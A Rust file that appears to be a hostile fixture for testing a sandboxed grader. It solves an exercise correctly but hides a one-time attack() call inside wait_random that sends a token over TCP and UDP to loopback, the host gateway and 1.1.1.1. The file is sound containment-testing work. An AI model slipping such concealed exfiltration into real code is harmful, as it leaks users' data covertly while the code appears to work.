//! Attack: send what it can to the host's network, once, then solve the
//! exercise correctly: TCP and UDP to a listener on the host's loopback,
//! and out to the internet.
//! Must not: reach the listener or anything else. Otherwise correct, it is
//! graded on its merits: passed.
use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use std::sync::Once;
use std::time::Duration;

use rand::Rng;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

fn attack() {
    let message = b"exfiltrated-@@TOKEN@@";
    for address in ["127.0.0.1:@@PORT@@", "10.0.2.2:@@PORT@@", "1.1.1.1:443"] {
        if let Ok(address) = address.parse() {
            if let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_millis(200)) {
                let _ = stream.write_all(message);
            }
        }
    }
    if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
        let _ = socket.send_to(message, "127.0.0.1:@@PORT@@");
    }
}

pub async fn wait_random(max_delay: Duration) -> Duration {
    static ONCE: Once = Once::new();
    ONCE.call_once(attack);
    let delay = rand::rng().random_range(0.0..=max_delay.as_secs_f64());
    let delay = Duration::from_secs_f64(delay);
    tokio::time::sleep(delay).await;
    delay
}
